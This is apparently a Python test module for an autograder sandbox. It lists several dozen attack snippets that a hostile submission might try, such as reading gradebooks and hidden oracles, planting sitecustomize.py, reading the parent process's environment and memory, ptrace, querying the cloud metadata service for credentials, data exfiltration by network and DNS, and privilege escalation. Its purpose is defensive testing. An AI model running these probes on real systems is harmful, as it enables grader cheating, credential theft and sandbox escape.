"""Attacks on secrets: oracles, seeds, the gradebook, other submissions, the environment, the network, other processes."""

from tests.attacks.attack import Attack

ATTACKS = [
    Attack(
        "gradebook_read", "read a file that everybody may read, such as a gradebook", "loot(open('{secret}').read())"
    ),
    Attack(
        "gradebook_written",
        "change a file that everybody may write",
        "open('{secret}', 'a').write('more marks')",
    ),
    Attack(
        "gradebook_by_sqlite", "open the gradebook as a database", "import sqlite3; loot(sqlite3.connect('{secret}'))"
    ),
    Attack(
        "gradebook_by_mmap",
        "map a file into memory by a raw system call",
        """
        import ctypes
        libc = ctypes.CDLL(None, use_errno=True)
        descriptor = libc.open(b"{secret}", 0)
        if descriptor >= 0:
            loot(descriptor)
        """,
    ),
    Attack(
        "gradebook_by_link",
        "reach a file over a symbolic or a hard link in the working folder",
        """
        import os
        for make in (os.symlink, os.link):
            try:
                make("{secret}", "mine")
                loot(open("mine").read())
            except OSError:
                pass
        """,
    ),
    Attack("folder_listed", "see who else has handed in", "import os; loot(os.listdir('{folder}'))"),
    Attack("file_planted", "leave a file for the next one to find", "open('{folder}/planted', 'w').write('hello')"),
    Attack(
        "shared_memory",
        "leave a message in shared memory",
        "import os; loot(os.open('/dev/shm/planted', os.O_CREAT | os.O_RDWR))",
    ),
    Attack(
        "sitecustomize",
        "plant a module that every later Python imports",
        """
        import site, sys
        for folder in [*sys.path, site.getusersitepackages()]:
            try:
                open(folder + "/sitecustomize.py", "w").write("import os; os._exit(0)")
                loot(folder)
            except OSError:
                pass
        """,
    ),
    Attack(
        "oracle_imported",
        "import the judge's oracles and answer with them",
        "from autograder.oracles import sgd; loot(sgd)",
    ),
    Attack(
        "oracle_read",
        "read the oracle's source next to the worker's own",
        """
        import sys
        worker = sys.modules["autograder.worker.harness"].__file__
        loot(open(worker.replace("worker/harness.py", "oracles/sgd.py")).read())
        """,
    ),
    Attack(
        "solution_imported",
        "import the solved chapter or a package that holds the same rule",
        "import solutions; loot(solutions)",
    ),
    Attack(
        "oracle_in_memory",
        "find oracles, seeds or expectations among all live objects",
        """
        import gc
        for thing in gc.get_objects():
            name = type(thing).__name__
            if name in ("Expectations", "Judge", "Bank", "Rule", "Expected"):
                loot(name)
            if isinstance(thing, dict) and any(key in thing for key in ("seed", "secret_seed", "oracle", "expected")):
                if "scenarios" in thing or "task" in thing:
                    loot(sorted(map(str, thing))[:20])
        """,
    ),
    Attack(
        "seed_in_the_job",
        "find the seed in the request that the worker got",
        """
        import sys
        frame = sys._getframe()
        while frame is not None and "request" not in frame.f_locals:
            frame = frame.f_back
        request = frame.f_locals["request"]
        if set(request) - {"modules", "module", "scenarios", "first"}:
            loot(sorted(request))
        if "{seed}" in repr([request["module"], request["scenarios"]]):
            loot("{seed}")
        """,
    ),
    Attack(
        "other_submission_in_memory",
        "find an earlier student's program in this process's memory",
        """
        import gc
        for thing in gc.get_objects():
            if isinstance(thing, dict) and any(isinstance(v, str) and "honest neigh" + "bour" in v for v in thing.values()):
                loot("a neighbour's program")
        """,
    ),
    Attack(
        "environment",
        "read passwords from the environment",
        """
        import os
        if "canary" in repr(dict(os.environ)):
            loot(os.environ)
        """,
    ),
    Attack(
        "environment_of_the_judge",
        "read the judge's environment",
        "import os; loot(open(f'/proc/{os.getppid()}/environ').read())",
    ),
    Attack(
        "memory_of_the_judge",
        "read the judge's memory",
        "import os; loot(open(f'/proc/{os.getppid()}/mem', 'rb').read(1))",
    ),
    Attack(
        "descriptors_inherited",
        "use a descriptor that the judge left open",
        """
        import os
        for descriptor in range(5, 1024):
            try:
                os.fstat(descriptor)
            except OSError:
                continue
            loot(descriptor)
        """,
    ),
    Attack(
        "job_rewritten",
        "write into the sealed job, which the judge might read again",
        "import os; os.write(3, b'x'); loot('the job can be written')",
    ),
    Attack(
        "ptrace",
        "attach to the fork server as a debugger does",
        """
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        if libc.ptrace(16, os.getppid(), 0, 0) == 0:
            loot("attached")
        """,
    ),
    Attack(
        "process_vm_readv",
        "read another process's memory by system call",
        """
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        buffer = ctypes.create_string_buffer(8)
        class Piece(ctypes.Structure):
            _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
        here = Piece(ctypes.addressof(buffer), 8)
        there = Piece(id(None), 8)
        if libc.process_vm_readv(os.getppid(), ctypes.byref(here), 1, ctypes.byref(there), 1, 0) > 0:
            loot(buffer.raw)
        """,
    ),
    Attack(
        "core_dump",
        "leave a core with everything in it",
        """
        import os, resource
        resource.setrlimit(resource.RLIMIT_CORE, (-1, -1))
        os.abort()
        """,
    ),
    Attack(
        "loopback",
        "call a service on this machine: a Jupyter server, a database",
        """
        import socket
        socket.create_connection(("127.0.0.1", {port}), 1).send(b"hello")
        loot("connected")
        """,
    ),
    Attack(
        "network",
        "send the work to somebody else",
        """
        import socket
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"hello", ("192.0.2.1", 53))
        loot("sent")
        """,
    ),
    Attack(
        "name_lookup", "carry data out in a name lookup", "import socket; loot(socket.getaddrinfo('example.org', 80))"
    ),
    Attack(
        "cloud_metadata",
        "ask the cloud's metadata service for credentials",
        "import urllib.request; loot(urllib.request.urlopen('http://169.254.169.254/', timeout=1).read())",
    ),
    Attack(
        "unix_socket",
        "talk to docker or to the agent of an ssh session",
        "import socket; loot(socket.socket(socket.AF_UNIX))",
    ),
    Attack("root_again", "become root", "import os; os.setuid(0); loot(os.getuid())"),
    Attack(
        "new_namespace",
        "make a user namespace, and be root in it",
        """
        import ctypes
        if ctypes.CDLL(None).unshare(0x10000000) == 0:
            loot("a user namespace")
        """,
    ),
    Attack("chroot", "leave the visible part of the file system", "import os; os.chroot('.'); loot(os.listdir('/'))"),
    Attack("dev_mem", "read the machine's memory", "loot(open('/dev/mem', 'rb').read(1))"),
    Attack(
        "kernel_keyring",
        "read the user's keys",
        "import ctypes; r = ctypes.CDLL(None).syscall(250, 0, -3, 0)\nif r >= 0: loot(r)",
    ),
]
